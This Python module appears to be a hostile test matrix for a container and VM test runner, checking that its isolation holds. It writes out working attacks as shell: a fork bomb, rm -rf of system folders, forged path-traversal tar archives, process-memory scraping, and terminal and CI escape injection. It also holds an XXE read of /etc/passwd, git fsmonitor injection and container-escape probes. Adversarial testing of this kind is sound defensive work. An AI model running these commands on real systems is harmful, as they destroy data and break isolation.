"""A product whose suites try what TRUST forbids: each attack a suite of its own, in POSIX sh, on
Alpine as on Debian. A suite that gets what it is after ends with status 66, or leaves it where the
test finds it."""

from __future__ import annotations

import base64
import html
import json
import secrets
import urllib.parse
from collections.abc import Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SECRET = "Tr0ub4dor&3<x>'y\"/+z"
# On the host; what runs in a machine has its own.
CANARY = f"/var/tmp/distromatrix-canary-{secrets.token_hex(6)}"
CONTAINERS, GUESTS = ("docker", "podman"), ("qemu", "vagrant")


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """`verdict`: those that it may come to; `says`: a part of the reason. `keys`: of the suite;
    `only`: engines on which it is one."""

    run: str
    verdict: tuple[str, ...] = ("passed",)
    says: str = ""
    keys: Mapping[str, Any] = field(default_factory=dict)
    only: tuple[str, ...] = (*CONTAINERS, *GUESTS)


FAILED = ("failed",)
# Where it may fail, or break its own machine; but it is never green.
NOT_GREEN = ("failed", "error")
REPORT = '"$DISTROMATRIX_JUNIT"'
GREEN = "<testsuite><testcase name='green'/></testsuite>"
RED = "<testsuite><testcase name='red'><failure message='no'/></testcase></testsuite>"
SHOWN = (
    r"\033]0;owned\007\033[2J\033[31m\n::set-env name=OWNED::1\n##[error]owned\n"
    r"::stop-commands::x\n"
)

# Says a line of the protocol for each marker in the memory of the shells that wait for the end of
# a command. What a command says and the protocol come by one stream.
_FORGING = r"""
for P in /proc/[0-9]*; do
  grep -q 'read -r _d[m]_l; do eval' "$P/cmdline" 2>/dev/null || continue
  while read -r at how _ _ _ what; do
    case $how,$what in rw*,'[heap]'|rw*,) ;; *) continue;; esac
    from=$((0x${at%-*} / 4096)) to=$((0x${at#*-} / 4096))
    dd if="$P/mem" bs=4096 skip=$from count=$((to - from)) 2>/dev/null
  done <"$P/maps" | grep -ao '_dm_m=[0-9a-f]\{24\}' | sort -u
done >found
while IFS== read -r _ M; do echo "$M LINE"; done <found
sleep 1; echo not believed; exit 1
"""


def _forging(line: str) -> str:
    return _FORGING.replace("LINE", line)


# A tar as no tar would write it: members by name, type, link.
_FORGED = r"""cat >/forged <<'END'
sub member { my ($name, $type, $link) = @_;
  my $head = pack("a100 a8 a8 a8 a12 a12 A8 a1 a100 a8 x64 a8 a8 x167", $name, "0004755",
    "0007777", "0", "0", "0", "", $type, $link, "ustar\x00" . "00", "0000010", "0000000");
  substr($head, 148, 8) = sprintf("%06o\0 ", unpack("%32C*", $head)); print $head }
MEMBERS
print "\0" x 1024
END
printf '#!/bin/sh\nexec perl /forged\n' >/forging; chmod 755 /forging; mv /forging /bin/tar"""
_OUT = f"""member("../" x 9 . "{CANARY}", 0, ""); member("{CANARY}", 0, "");
member("up", 2, "../../../../.."); member("up{CANARY}", 0, "");"""
_NO_FILES = """member("etc/passwd", 6, ""); member("etc/group", 2, "/proc/kmsg");
member("etc/shadow", 2, "/dev/zero"); member("distromatrix/product/disk", 4, "");"""
_GONE = r"""cat >real <<'END'
#!/bin/sh
case $* in -zb2-) printf "/dev\0/sys\0../../lib\0-rf\0/\0.\0"; exit ;; esac
exec /usr/bin/cut-real "$@"
END
chmod 755 real; mv /usr/bin/cut /usr/bin/cut-real; mv real /usr/bin/cut"""
_ODD = r"""touch "$(printf 'a\nb')" "$(printf '\377')" -- '-rf' ' --help' suid
chown 4321:1234 suid; chmod 6751 suid; ln suid hard; mkfifo fifo
ln -s ../../../.. up; ln -s /etc/shadow out
n=0; while [ $n -lt 90 ]; do mkdir d; cd d; n=$((n+1)); done; echo deep >deep"""
_STILL_ODD = r"""[ "$(stat -c '%a %u %g %h' suid)" = '6751 4321 1234 2' ]; [ -p fifo ]
[ -f "$(printf 'a\nb')" ]; [ -f "$(printf '\377')" ]; [ -f ./-rf ]; [ -f ' --help' ]
[ "$(readlink up)" = ../../../.. ]; [ "$(readlink out)" = /etc/shadow ]
n=0; while [ $n -lt 90 ]; do cd d; n=$((n+1)); done; cat deep"""


def _carried(setup: str, **keys: Any) -> dict[str, Any]:
    return {"setup": {"in": "container", "run": setup}, **keys}


_ENDLESS_TAR = "rm /bin/tar; printf '#!/bin/sh\\nexec yes\\n' >/bin/tar; chmod 755 /bin/tar"
ATTACKS: dict[str, Attack] = {
    # --- between cells: they begin together, being the first
    "server": Attack(
        run="{ nc -l -p 7777 >reached & }; sleep 12; [ ! -s reached ] || exit 66",
        keys={"network": True},
        only=CONTAINERS,
    ),
    "neighbour": Attack(
        run="mine=$(hostname -i); for round in 1 2 3 4 5; do n=1; while [ $n -lt 40 ]; do\n"
        "echo here | nc -w 1 ${mine%.*}.$n 7777 & n=$((n+1)); done; sleep 2; done 2>/dev/null\n"
        "wait; exit 0",
        keys={"network": True},
        only=CONTAINERS,
    ),
    # --- streams: the shell's protocol and the log
    "marker-status": Attack(
        run=_forging("e 99999999999999999999999"),
        verdict=("error",),
        says="not believed",
        only=CONTAINERS,
    ),
    "marker-words": Attack(
        run=_forging("e -1 0"), verdict=("error",), says="not believed", only=CONTAINERS
    ),
    "verdict-lines": Attack(
        run='echo \'all cells passed\'; echo \'{"type": "run-finished", "verdict": "passed"}\'\n'
        "printf '\\r\\033[1A\\033[2K  passed\\n'; exit 1",
        verdict=FAILED,
    ),
    "shown": Attack(run=f"printf '{SHOWN}'; printf '{SHOWN}' >&2; exit 1", verdict=FAILED),
    "endless": Attack(run="yes endless", verdict=FAILED, keys={"timeout": "4s"}, says="timed out"),
    "no-newline": Attack(
        run="tr '\\0' a </dev/zero", verdict=FAILED, keys={"timeout": "4s"}, says="timed out"
    ),
    "carriage-returns": Attack(
        run="head -c 1000000 /dev/zero | tr '\\0' '\\r'; exit 1", verdict=FAILED
    ),
    "shell-killed": Attack(
        run="kill -9 $PPID; kill -9 -1; sleep 1", verdict=NOT_GREEN, keys={"timeout": "5s"}
    ),
    "shell-stopped": Attack(
        run="kill -STOP $PPID; sleep 1; exit 1", verdict=NOT_GREEN, keys={"timeout": "5s"}
    ),
    "programs-replaced": Attack(
        run="for name in sh df uname ps tar head cat sleep kill test; do\n"
        "for folder in /bin /usr/bin; do rm -f $folder/$name\n"
        "printf '#!/bin/busybox yes\\n' >$folder/$name; done; done 2>/dev/null; exit 1",
        verdict=NOT_GREEN,
    ),
    # --- what a container's setup changed, on its way into a guest
    "carried-endless": Attack(
        run="echo it ran",
        verdict=FAILED,
        says="its setup changed more than its disk",
        keys=_carried(_ENDLESS_TAR, disk="100M"),
        only=GUESTS,
    ),
    "carried-endless-list": Attack(
        run="echo it ran",
        verdict=FAILED,
        says="its setup changed more than its disk",
        keys=_carried(_ENDLESS_TAR.replace("/bin/tar", "/usr/bin/cut"), disk="100M"),
        only=GUESTS,
    ),
    "carried-sparse": Attack(
        run='[ "$(stat -c %s big)" = 4398046511108 ]',
        keys=_carried("truncate -s 4T big; echo end >>big"),
        only=GUESTS,
    ),
    "carried-odd": Attack(run=_STILL_ODD, keys=_carried(_ODD), only=GUESTS),
    "carried-out": Attack(
        run="exit 1",
        verdict=NOT_GREEN,
        keys=_carried(_FORGED.replace("MEMBERS", _OUT)),
        only=GUESTS,
    ),
    # Whoever reads these waits for ever, or is never done.
    "carried-no-files": Attack(
        run="[ -p /etc/passwd ] && [ -b disk ] && exit 1; exit 66",
        verdict=NOT_GREEN,
        keys=_carried(_FORGED.replace("MEMBERS", _NO_FILES)),
        only=GUESTS,
    ),
    # Of what it never had.
    "carried-gone": Attack(
        run="exit 1",
        verdict=NOT_GREEN,
        keys=_carried(_GONE),
        only=GUESTS,
    ),
    "carried-away": Attack(
        run="exit 1",
        verdict=NOT_GREEN,
        keys=_carried("rm -rf /etc /home /var /boot /distromatrix/* || :"),
        only=GUESTS,
    ),
    # --- reports
    "laughs": Attack(
        run='echo \'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
        f'<!ENTITY c SYSTEM "file:///etc/passwd">]><testsuite name="&b;&c;"/>\' >{REPORT}',
        verdict=FAILED,
        says="refused",
    ),
    "report-shown": Attack(
        run=f'printf \'<testsuite><testcase name="::error::x"><failure message="##[error]">'
        f"<![CDATA[{SHOWN}]]></failure></testcase></testsuite>' >{REPORT}",
        verdict=FAILED,
    ),
    "report-green": Attack(run=f'echo "{GREEN}" >{REPORT}; exit 1', verdict=FAILED),
    "report-red": Attack(run=f'echo "{RED}" >{REPORT}', verdict=FAILED, says="1 of 1"),
    "report-none": Attack(run=f": {REPORT}", verdict=FAILED),
    "report-fifo": Attack(run=f"rm -f {REPORT}; mkfifo {REPORT}", verdict=NOT_GREEN),
    "report-folder-fifo": Attack(
        run='rm -rf "$DISTROMATRIX_JUNIT_DIR"; mkfifo "$DISTROMATRIX_JUNIT_DIR"; exit 1',
        verdict=FAILED,
    ),
    "report-link": Attack(run=f"ln -sf /etc/passwd {REPORT}", verdict=FAILED),
    "report-of-another": Attack(
        run=f'echo "{RED}" >{REPORT}; cd "$(dirname {REPORT})"; for up in .. ../.. ../../..; do\n'
        f'mkdir -p $up/good; echo "{RED}" >$up/good/junit.xml; done; exit 1',
        verdict=FAILED,
    ),
    # It waits for the end of the suite, and makes a green report of a red one.
    "stray": Attack(
        run=f'echo "{RED}" >{REPORT}\n'
        f'setsid sh -c \'trap "" TERM HUP INT; while kill -0 $$; do :; done 2>/dev/null\n'
        f'while :; do echo "{GREEN}" >{REPORT}; done\' </dev/null >/dev/null 2>&1 &',
        verdict=FAILED,
    ),
    # --- artifacts
    "sparse": Attack(
        run='truncate -s 4T "$DISTROMATRIX_ARTIFACTS/sparse"',
        verdict=FAILED,
        keys={"timeout": "20s"},
    ),
    "links": Attack(
        run='cd "$DISTROMATRIX_ARTIFACTS"; ln -s /etc/passwd a; ln -s ../../../.. b; ln -s b c\n'
        f"ln -s {CANARY} d; ln /etc/hostname e || :; mkfifo f; mkdir i; ln -s . i/j; ln -s / k\n"
        "echo kept >l; nc -lU m 2>/dev/null & sleep 1"
    ),
    "devices": Attack(
        run='cd "$DISTROMATRIX_ARTIFACTS"; mknod g c 1 3; mknod h b 8 0', verdict=FAILED
    ),
    "git-folder": Attack(
        run='cd "$DISTROMATRIX_ARTIFACTS"; mkdir -p .git/objects .git/refs bare/objects bare/refs\n'
        f"for at in .git bare; do printf '[core]\\nbare = false\\nfsmonitor = touch {CANARY};'"
        "  >$at/config; echo 'ref: refs/heads/x' >$at/HEAD; done"
    ),
    "names": Attack(
        run='cd "$DISTROMATRIX_ARTIFACTS"\n'
        f"touch \"$(printf '{SHOWN}x')\" -- '-rf' '--help' '.. '\n"
        "touch \"$(printf '\\377\\376x')\" \"$(printf 'a\\nb')\" \"$(printf '%0200d' 0)\"\n"
        "n=0; while [ $n -lt 90 ]; do mkdir d; cd d; n=$((n+1)); done; touch deep",
        verdict=FAILED,
        says="in more than 64 folders",
    ),
    "out-is-a-link": Attack(
        run='out=$(dirname "$DISTROMATRIX_ARTIFACTS"); rm -rf "$out"/* ; rmdir "$out"\n'
        'ln -s / "$out" || { mkdir -p "$out"; ln -s / "$out/artifacts"; }; exit 1',
        verdict=NOT_GREEN,
    ),
    # --- what there is only so much of
    "fork-bomb": Attack(
        run="b() { b | b & }; (b) 2>/dev/null; while :; do :; done",
        verdict=FAILED,
        keys={"timeout": "5s", "pids": 100},
    ),
    # More processes than it may have, each of them idle.
    "processes": Attack(
        run="n=0; while [ $n -lt 150 ]; do sleep 60 & n=$((n+1)); done; exit 66",
        verdict=FAILED,
        keys={"pids": 100},
        says="exit status 2",
    ),
    "disk": Attack(
        run="n=0; while [ $n -lt 600 ]; do dd if=/dev/zero of=fill.$n bs=1M count=1; n=$((n+1))\n"
        "done 2>/dev/null; sleep 20; exit 1",
        verdict=FAILED,
        keys={"disk": "100M", "timeout": "40s"},
        says="disk",
    ),
    # --- secrets
    "secret": Attack(
        run='p() { echo "$1"; echo "$1" >&2; echo "$1" >>"$DISTROMATRIX_ARTIFACTS/text"; }\n'
        'with() { printf %s "$TOKEN" | sed "$@"; }\n'
        'p "$TOKEN"; p "{"t": "$(with \'s/"/\\\\"/g\')"}"\n'
        "p $(with -e 's/&/%26/g;s/</%3C/g;s/>/%3E/g;s/\"/%22/g;s,/,%2F,g;s/+/%2B/g'"
        ' -e "s/\'/%27/g")\n'
        "XML=$(with -e 's/&/\\&amp;/g;s/</\\&lt;/g;s/>/\\&gt;/g;s/\"/\\&quot;/g'"
        ' -e "s/\'/\\&#x27;/g")\n'
        'for before in "" x xx user:; do p "$(printf %s "$before$TOKEN" | base64 -w 0)"; done\n'
        'hex=$(printf %s "$TOKEN" | od -An -v -tx1 | tr -d " \\n"); p "$hex"\n'
        'p "$(echo $hex | tr a-f A-F)"; p "$XML"\n'
        'wide() { printf %s "$TOKEN" | sed "s/./&\\n/g" | tr "\\n" "\\0"; }\n'
        'wide; wide >"$DISTROMATRIX_ARTIFACTS/wide"\n'
        'printf "<testsuite><testcase name=\'%s\'/></testsuite>" "$XML" >"$DISTROMATRIX_JUNIT"',
    ),
    # --- the host, and other cells
    # A connection alone proves nothing: there are networks in which somebody answers for all.
    "loopback": Attack(
        run="ask() { nc -w 2 $1 $PORT </dev/null || timeout 2 bash -c"
        ' "exec 3<>/dev/tcp/$1/$PORT; read -r said <&3; echo \\$said"; } 2>/dev/null\n'
        "ip route 2>/dev/null || cat /proc/net/route\n"
        "for host in 127.0.0.1 10.0.2.2 10.0.2.3 169.254.1.1 192.168.121.1 172.17.0.1 \\\n"
        "  host.docker.internal host.containers.internal gateway \\\n"
        '  $(awk \'$2 == "00000000" { h = $3; for (i = 7; i > 0; i -= 2)\n'
        '    printf "%s%d", (i < 7 ? "." : ""), "0x" substr(h, i, 2) }\' /proc/net/route); do\n'
        "case $(ask $host) in *host*) echo reached $host; exit 66 ;; esac; done; exit 0",
        keys={"network": True},
    ),
    "capabilities": Attack(
        run="has=$(sed -n 's/^CapBnd:[[:space:]]*//p' /proc/self/status)\n"
        "for bit in 13 27 29 16 21; do  # NET_RAW, MKNOD, AUDIT_WRITE, SYS_MODULE, SYS_ADMIN\n"
        "[ $((0x$has >> bit & 1)) = 0 ] || { echo has $bit; exit 66; }; done\n"
        "mknod sda b 8 0 && exit 66; mount -t tmpfs x /mnt && exit 66; exit 0",
        only=CONTAINERS,
    ),
    "kernel": Attack(
        run="for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe \\\n"
        "  /proc/sysrq-trigger /dev/kmsg /dev/mem /dev/sda /proc/kcore; do\n"
        "[ -e $file ] && ( : >>$file ) 2>/dev/null && { echo wrote $file; exit 66; }; done\n"
        "for file in $(find /sys/fs/cgroup -name release_agent 2>/dev/null); do\n"
        "( : >>$file ) 2>/dev/null && { echo wrote $file; exit 66; }; done; exit 0",
        only=CONTAINERS,
    ),
    "socket": Attack(
        run="for path in /var/run/docker.sock /run/docker.sock /run/podman/podman.sock \\\n"
        "  /var/run/libvirt/libvirt-sock; do [ ! -e $path ] || exit 66; done"
    ),
    # It removes its own machine's system.
    "canary": Attack(
        run=f"echo owned >{CANARY}; chmod 4755 {CANARY}; mkdir -p /tmp/x; rm -rf ../../* || :",
        verdict=("passed", *NOT_GREEN),
    ),
    "good": Attack(run=f'echo "{GREEN}" >{REPORT}; echo kept >"$DISTROMATRIX_ARTIFACTS/kept"'),
}


def spellings() -> dict[str, bytes]:
    """What must be nowhere in a run's folder, by what it is called."""
    raw = SECRET.encode()
    found = {
        "plain": raw,
        "JSON": json.dumps(SECRET)[1:-1].encode(),
        "URL": urllib.parse.quote(SECRET, safe="").encode(),
        "XML": html.escape(SECRET).encode(),
        "UTF-16": SECRET.encode("utf-16-le"),
        "hex": raw.hex().encode(),
        "HEX": raw.hex().upper().encode(),
    }
    for before in (b"", b"x", b"xx", b"user:"):
        whole = base64.b64encode(before + raw).decode()
        # What depends on nothing but the secret.
        start, end = -(-len(before) * 4 // 3), len(before + raw) // 3 * 4
        found[f"base64 after {before.decode()!r}"] = whole[start:end].encode()
    return found


def planted(root: Path) -> None:
    """What lies in the checkout itself: a bare repository, whose command git would run there, and
    names that a terminal obeys."""
    for name in ("objects/.keep", "refs/.keep"):
        (root / "below" / name).parent.mkdir(parents=True)
        (root / "below" / name).touch()
    (root / "below/HEAD").write_text("ref: refs/heads/main\n")
    (root / "below/config").write_text(
        f"[core]\nrepositoryformatversion = 0\nbare = true\nfsmonitor = touch {CANARY};\n"
    )
    (root / "a\033]0;owned\007\n::error::x").touch()


def matrix(engine: str, *, bounds: bool = True) -> dict[str, Any]:
    """The suites for an engine; `bounds`: it bounds processes, else the host would bear them."""
    needs = {"qemu": ["own-kernel"], "vagrant": ["own-kernel", "init"]}.get(engine, [])
    chosen = {
        name: one
        for name, one in ATTACKS.items()
        if engine in one.only and (bounds or "pids" not in one.keys)
    }
    return {name: {"run": one.run, "needs": needs, **one.keys} for name, one in chosen.items()}
